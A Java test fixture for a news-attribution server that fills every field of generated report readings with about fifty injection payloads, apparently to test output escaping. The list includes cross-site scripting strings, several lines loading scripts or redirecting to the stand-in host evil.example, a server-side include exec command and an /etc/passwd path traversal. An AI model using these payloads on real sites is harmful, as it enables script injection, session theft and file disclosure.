package org.sayso.server;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.sayso.model.Actor;
import org.sayso.model.ActorType;
import org.sayso.model.Attribution;
import org.sayso.model.AttributionLinks;
import org.sayso.model.Evidence;
import org.sayso.model.EvidenceType;
import org.sayso.model.Flag;
import org.sayso.model.Kind;
import org.sayso.model.Post;
import org.sayso.model.PostOrigin;
import org.sayso.model.PublicationTime;
import org.sayso.model.Reading;
import org.sayso.model.RemovedText;
import org.sayso.model.Report;
import org.sayso.model.ReportMetadata;
import org.sayso.model.Resolution;
import org.sayso.model.RoleSpans;
import org.sayso.model.Stance;
import org.sayso.model.TextSpan;

/** Readings with markup and script in every field that a report can bring along. */
final class HostileReadings {
  static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt>alert(1)</sCrIpT>",
          "<script src=//evil.example/x.js></script>",
          "</script><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "</style><script>alert(1)</script>",
          "--><script>alert(1)</script>",
          "]]><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<img/src=x/onerror=alert(1)>",
          "\"><img src=x onerror=alert(1)>",
          "'><img src=x onerror=alert(1)>",
          "\" onmouseover=\"alert(1)",
          "' onmouseover='alert(1)",
          "\" autofocus onfocus=alert(1) x=\"",
          "` onmouseover=`alert(1)",
          " onclick=alert(1) ",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x>",
          "<math><mtext><script>alert(1)</script>",
          "<iframe src=javascript:alert(1)>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<object data=javascript:alert(1)>",
          "<embed src=javascript:alert(1)>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>@import '//evil.example/x.css'</style>",
          "<body onload=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<video><source onerror=alert(1)>",
          "<input autofocus onfocus=alert(1)>",
          "<form action=//evil.example><button>x",
          "<a href=javascript:alert(1)>x</a>",
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "vbscript:msgbox(1)",
          "//evil.example/",
          "\\\\evil.example\\",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "<<script>script>alert(1)<</script>/script>",
          "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
          "\u2028<script>alert(1)</script>",
          "${7*7}{{7*7}}<%=7*7%>@{7*7}",
          "<!--#exec cmd=\"ls\"-->",
          "<template><script>alert(1)</script></template>",
          "<a href=\"x\" ping=\"//evil.example\">",
          "../../../etc/passwd");

  private HostileReadings() {}

  /** One reading for each payload. */
  static List<Reading> all() {
    List<Reading> all = new ArrayList<>();
    for (int i = 0; i < PAYLOADS.size(); i++) {
      all.add(reading(i, PAYLOADS.get(i)));
    }
    return all;
  }

  private static Reading reading(int number, String payload) {
    String source = "Spokesman " + payload;
    String content = "the harbour of town " + number + " was closed by " + payload + " at night";
    String text = source + " said " + content + ".\n\nA second paragraph with " + payload + ".";
    TextSpan sourceSpan = TextSpan.of(0, source.length());
    TextSpan cue = TextSpan.of(source.length() + 1, source.length() + 5);
    TextSpan contentSpan = TextSpan.of(source.length() + 6, source.length() + 6 + content.length());
    ReportMetadata metadata =
        new ReportMetadata(
            payload,
            "Outlet " + payload,
            "Title " + payload,
            List.of("Byline " + payload),
            new PublicationTime.Day(LocalDate.of(2025, 4, 8)),
            payload);
    Post post =
        new Post(
            new PostOrigin(payload, payload, payload, payload, payload),
            LocalDate.of(2025, 4, 7),
            true,
            contentSpan,
            List.of(payload));
    Report report =
        new Report(
            "hostile-" + number + payload,
            metadata,
            text,
            List.of(),
            List.of(post),
            List.of(new RemovedText(payload, payload)));
    Actor actor =
        new Actor(
            "p1",
            ActorType.PERSON,
            source,
            new Resolution.KnowledgeBase(payload, payload),
            List.of(),
            List.of(payload),
            List.of(sourceSpan));
    Attribution attribution =
        new Attribution(
            "a1",
            null,
            Kind.INDIRECT,
            number % 2 == 0 ? Stance.ASSERTS : Stance.DENIES,
            0.9,
            new RoleSpans(List.of(sourceSpan), List.of(cue), List.of(contentSpan)),
            new AttributionLinks("p1", List.of("e1"), null));
    return new Reading(
        report,
        List.of(attribution),
        List.of(actor),
        List.of(new Evidence("e1", EvidenceType.FOOTAGE, contentSpan, payload)),
        List.of(),
        List.of(),
        List.of(new Flag("truncated-post", List.of(contentSpan), payload)));
  }
}
